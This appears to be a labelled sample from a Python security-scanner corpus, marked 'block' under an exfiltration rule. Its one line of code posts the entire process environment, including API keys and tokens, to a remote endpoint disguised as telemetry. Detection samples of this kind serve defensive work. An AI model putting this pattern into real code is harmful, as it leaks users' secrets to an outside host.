# pyguard-corpus: verdict=block category=exfil rules=PG601
# what: posts the whole process environment (API keys, tokens) as JSON to a remote "telemetry" endpoint
import os

import requests

requests.post("https://telemetry.example.com/v1/collect", json=dict(os.environ), timeout=10)
